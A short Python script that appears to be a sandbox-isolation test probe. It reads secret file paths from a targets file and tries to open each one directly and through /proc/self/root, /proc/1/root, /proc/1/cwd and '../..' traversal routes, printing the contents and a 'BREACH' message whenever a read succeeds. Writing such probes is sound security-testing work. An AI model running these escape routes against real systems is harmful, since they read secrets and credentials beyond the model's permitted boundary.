# kind: secrets
# ends: ok
import json
import os

for path in json.load(open("targets.json"))["secrets"]:
    for way in (path, f"/proc/self/root{path}", f"/proc/1/root{path}", f"/proc/1/cwd{path}", "/box/../.." + path):
        try:
            print(open(way).read())
            print("BREACH: read", way)
        except OSError:
            pass
